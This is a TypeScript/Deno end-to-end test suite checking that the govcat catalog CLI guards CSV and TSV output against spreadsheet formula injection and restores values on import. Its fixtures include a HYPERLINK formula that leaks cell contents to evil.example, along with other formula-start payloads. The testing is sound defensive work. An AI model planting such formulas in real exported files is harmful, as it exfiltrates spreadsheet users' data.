/**
 * CSV injection (OWASP), run the way a user runs govcat (a subprocess against the emulator over real HTTP):
 * every CSV and TSV govcat writes — `--output=csv|tsv` of a list command, a reject file, `glossary
 * export-terms` — has no cell a spreadsheet would run as a formula (a leading `=`, `+`, `-`, `@`, tab or
 * carriage return gets a `'`), and govcat's own readers take that `'` off again, so an export imported back
 * leaves the catalog's values as they were (read back through the API), negative numbers included.
 */
import assert from "node:assert/strict";
import { readCsvTextSync } from "../../lib/csv/reader.ts";
import { parseCsv } from "../../lib/deps/csv.ts";
import { type CliSetup, withCliSetup } from "../support/cli_harness.ts";

/** What a spreadsheet would run as a formula at the start of a cell. */
const FORMULA_START = /^[=+\-@\t\r]/;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** Descriptions written by "many people": each starts like a formula, or looks guarded already. */
const HOSTILE: Record<string, string> = {
  "csvinj-hyperlink": HYPERLINK,
  "csvinj-plus": "+1",
  "csvinj-minus": "-2",
  "csvinj-at": "@SUM(1)",
  "csvinj-tab": "\t=1+1",
  "csvinj-cr": "\r=1+1",
  "csvinj-quoted": "'=already quoted",
  "csvinj-plain": "plain text",
};

const SERVER = "mssql://e2e-csvinj.database.windows.net/Db/dbo";

/** Creates a table per {@link HOSTILE} description; returns their guids by name. */
async function createHostileTables(setup: CliSetup): Promise<Map<string, string>> {
  const guids = new Map<string, string>();
  for (const [name, description] of Object.entries(HOSTILE)) {
    const result = await setup.client.entity.createOrUpdate({
      typeName: "azure_sql_table",
      attributes: { qualifiedName: `${SERVER}/${name}`, name, description },
    });
    guids.set(name, result.mutatedEntities!.CREATE![0].guid!);
  }
  return guids;
}

/** A business metadata group `CsvInj` with an int attribute `offset`, for data sets. */
async function createOffsetGroup(setup: CliSetup) {
  await setup.client.types.create({
    businessMetadataDefs: [{
      name: "CsvInj",
      attributeDefs: [{
        name: "offset",
        typeName: "int",
        isOptional: true,
        cardinality: "SINGLE",
        options: { applicableEntityTypes: '["DataSet"]' },
      }],
    }],
  });
}

/** Records of CSV text as a plain parser (a spreadsheet) sees them: nothing taken off. */
async function plainRecords(text: string): Promise<Record<string, string>[]> {
  return await new Promise((resolve, reject) =>
    parseCsv(
      text,
      { columns: true, relax_column_count: true },
      (error, records) => error ? reject(error) : resolve(records as Record<string, string>[]),
    )
  );
}

/** Fails naming the first cell of `rows` a spreadsheet would run. */
function assertNoFormulaCell(rows: string[][], what: string) {
  rows.forEach((cells, i) =>
    cells.forEach((cell) =>
      assert.ok(!FORMULA_START.test(cell), `${what}: row ${i + 1} cell ${JSON.stringify(cell)} is a formula`)
    )
  );
}

Deno.test("search query --output=csv and tsv guard formula cells; govcat's reader gives back the values", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-" }, async (setup) => {
    await createHostileTables(setup);
    const query = ["search", "query", "--keywords=csvinj", "--limit=20"];

    const csv = await setup.govcatText(...query, "--output=csv");
    assert.equal(csv.code, 0, csv.stderr);
    const records = await plainRecords(csv.stdout);
    assert.equal(records.length, Object.keys(HOSTILE).length, csv.stdout);
    assertNoFormulaCell(records.map((r) => Object.values(r)), "search csv");
    const byName = new Map(records.map((r) => [r.name, r]));
    assert.equal(byName.get("csvinj-hyperlink")!.description, `'${HYPERLINK}`);
    assert.equal(byName.get("csvinj-minus")!.description, "'-2");
    assert.equal(byName.get("csvinj-tab")!.description, "'\t=1+1");
    assert.equal(byName.get("csvinj-quoted")!.description, "''=already quoted", "one more quote, not none");
    assert.equal(byName.get("csvinj-plain")!.description, "plain text", "plain text is left alone");

    // govcat's reader takes exactly one quote off: every description is the catalog's again.
    const [header, ...rows] = [...readCsvTextSync(csv.stdout, "search.csv")].map((row) => row.cells);
    const column = (name: string) => header.indexOf(name);
    const read = Object.fromEntries(
      rows.map((cells) => [cells[column("name")], cells[column("description")]]),
    );
    assert.deepEqual(read, HOSTILE);

    const tsv = await setup.govcatText(...query, "--output=tsv");
    assert.equal(tsv.code, 0, tsv.stderr);
    const lines = tsv.stdout.split("\n").map((line) => line.split("\t"));
    assertNoFormulaCell(lines, "search tsv");
    const at = lines[0].indexOf("description");
    const named = new Map(lines.slice(1).map((cells) => [cells[lines[0].indexOf("name")], cells[at]]));
    assert.equal(named.get("csvinj-hyperlink"), `'${HYPERLINK}`);
    assert.equal(named.get("csvinj-plus"), "'+1");
    assert.equal(named.get("csvinj-at"), "'@SUM(1)");
    assert.equal(named.get("csvinj-cr"), "'\\r=1+1", "the guard, then the escaped carriage return");
  });
});

Deno.test("an export imported back with bulk-update-csv leaves every description as it was", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-" }, async (setup) => {
    const guids = await createHostileTables(setup);
    const exported = await setup.govcatText(
      "search",
      "query",
      "--keywords=csvinj",
      "--limit=20",
      "--query",
      "value[].{guid: id, description: description}",
      "--output=csv",
    );
    assert.equal(exported.code, 0, exported.stderr);
    const file = await setup.file("export.csv", exported.stdout);
    // Someone changes every description; importing the export must put back the originals, guard removed.
    for (const [name, guid] of guids) {
      await setup.client.entity.createOrUpdate({
        guid,
        typeName: "azure_sql_table",
        attributes: { qualifiedName: `${SERVER}/${name}`, name, description: "changed" },
      });
    }
    const imported = await setup.govcat("entity", "bulk-update-csv", `--csv-file=${file}`);
    assert.equal(imported.code, 0, imported.stderr);
    for (const [name, guid] of guids) {
      const description = (await setup.client.entity.get(guid)).entity.attributes?.description;
      // The import trims white space around every cell, guarded or not.
      assert.equal(description, HOSTILE[name].trim(), `${name} round trip`);
    }
  });
});

Deno.test("a reject file guards formula cells; a guarded negative number imports as -5", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-" }, async (setup) => {
    await createOffsetGroup(setup);
    const guids = await createHostileTables(setup);
    const known = guids.get("csvinj-plain")!;
    const missing = ["0b0c0d0e-1f20-4314-9a0b-c1d2e3f4a5b6", "0b0c0d0e-1f20-4314-9a0b-c1d2e3f4a5b7"];
    // A hand-made file: raw formulas, a guarded negative number; the unknown entity's row is rejected.
    const file = await setup.file(
      "update.csv",
      [
        "guid,description,bm.CsvInj.offset",
        `${known},"'${HYPERLINK.replaceAll('"', '""')}",'-5`,
        `${missing[0]},"${HYPERLINK.replaceAll('"', '""')}",'-7`,
        `${missing[1]},@SUM(1),-8`,
      ].join("\n"),
    );
    const run = await setup.govcatText("entity", "bulk-update-csv", `--csv-file=${file}`);
    assert.equal(run.code, 1, run.stderr);
    const entity = (await setup.client.entity.get(known)).entity;
    assert.equal(entity.attributes?.description, HYPERLINK, "the guard is taken off");
    // The cell is sent as text, as an unguarded -5 would be; the catalog reads the number from it.
    assert.equal(String(entity.businessAttributes?.CsvInj?.offset), "-5", "'-5 imports as -5");

    const rejectText = await Deno.readTextFile(`${setup.dir}/update.rejected.csv`);
    const rejects = await plainRecords(rejectText);
    assert.equal(rejects.length, 2, rejectText);
    assertNoFormulaCell(rejects.map((r) => Object.values(r)), "reject file");
    assert.deepEqual(
      rejects.map((r) => [r.description, r["bm.CsvInj.offset"]]),
      [[`'${HYPERLINK}`, "'-7"], ["'@SUM(1)", "'-8"]],
      "guarded once, whether the input was guarded or not",
    );
  });
});

Deno.test("glossary export-terms guards formula cells; import-terms of the export gives back the definitions", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-", notFoundHint: /glossary list/ }, async (setup) => {
    const source = (await setup.client.glossary.create({ name: "CsvInjSource" })).guid!;
    for (const [name, definition] of Object.entries(HOSTILE)) {
      await setup.client.glossary.createTerm({
        name,
        longDescription: definition,
        anchor: { glossaryGuid: source },
      });
    }
    const file = `${setup.dir}/terms.csv`;
    const exported = await setup.govcat(
      "glossary",
      "export-terms",
      `--glossary-guid=${source}`,
      `--output-file=${file}`,
    );
    assert.equal(exported.code, 0, exported.stderr);
    const records = await plainRecords(await Deno.readTextFile(file));
    assert.equal(records.length, Object.keys(HOSTILE).length);
    assertNoFormulaCell(records.map((r) => Object.values(r)), "export-terms");
    const definitions = new Map(records.map((r) => [r.Name, r.Definition]));
    assert.equal(definitions.get("csvinj-hyperlink"), `'${HYPERLINK}`);
    assert.equal(definitions.get("csvinj-quoted"), "''=already quoted");
    assert.equal(definitions.get("csvinj-plain"), "plain text");

    // The service's import (the default mode) gets the values without the guard.
    const target = (await setup.client.glossary.create({ name: "CsvInjTarget" })).guid!;
    const imported = await setup.govcat(
      "glossary",
      "import-terms",
      `--glossary-guid=${target}`,
      `--csv-file=${file}`,
    );
    assert.equal(imported.code, 0, imported.stderr);
    const terms = await setup.client.glossary.listTerms(target);
    assert.deepEqual(
      Object.fromEntries(terms.map((term) => [term.name, term.longDescription])),
      Object.fromEntries(Object.entries(HOSTILE).map(([name, text]) => [name, text.trim()])),
      "every definition as it was (the service trims white space around a cell)",
    );
  });
});

Deno.test("import-business-metadata uploads a guarded cell without its guard", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-" }, async (setup) => {
    await createOffsetGroup(setup);
    const guids = await createHostileTables(setup);
    const file = await setup.file(
      "bm.csv",
      [
        "EntityType,EntityUniqueAttributeValue,BusinessAttributeName,BusinessAttributeValue,EntityUniqueAttributeName",
        `azure_sql_table,${SERVER}/csvinj-plain,CsvInj.offset,'-5,qualifiedName`,
      ].join("\n"),
    );
    const run = await setup.govcat("entity", "import-business-metadata", `--bm-file=${file}`);
    assert.equal(run.code, 0, run.stderr);
    const entity = (await setup.client.entity.get(guids.get("csvinj-plain")!)).entity;
    assert.equal(String(entity.businessAttributes?.CsvInj?.offset), "-5", "'-5 reaches the service as -5");
  });
});

Deno.test("validate csv --format csv: a report cell naming a formula-like column is guarded", async () => {
  await withCliSetup({ prefix: "govcat-e2e-csvinj-" }, async (setup) => {
    const file = await setup.file("bad.csv", "guid,description,-evil\nnot-a-guid,x,y\n");
    const report = `${setup.dir}/report.csv`;
    const run = await setup.govcatText(
      "validate",
      "csv",
      `--csv-file=${file}`,
      "--template=entity-bulk-update",
      `--report-file=${report}`,
      "--format=csv",
    );
    assert.equal(run.code, 2, run.stderr);
    const rows = await plainRecords(await Deno.readTextFile(report));
    assertNoFormulaCell(rows.map((r) => Object.values(r)), "validate report");
    assert.deepEqual(rows.map((r) => r.columnName), ["'-evil", "guid"]);
  });
});
